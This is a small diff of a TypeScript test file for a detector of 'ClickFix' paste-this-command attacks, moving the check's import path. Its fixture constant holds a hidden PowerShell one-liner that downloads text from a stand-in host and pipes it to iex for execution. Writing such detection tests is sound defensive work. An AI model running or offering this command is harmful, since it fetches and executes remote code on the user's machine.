@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'bun:test'
-import { clickfixCheck } from '../../../src/trust/checks/clickfix.ts'
+import { clickfixCheck } from '../../../src/trust/checks/malware/clickfix.ts'
 import { findings, rules } from './page-subject.ts'
 
 const COMMAND = 'powershell -w hidden -c iwr https://x.example/a.txt | iex'
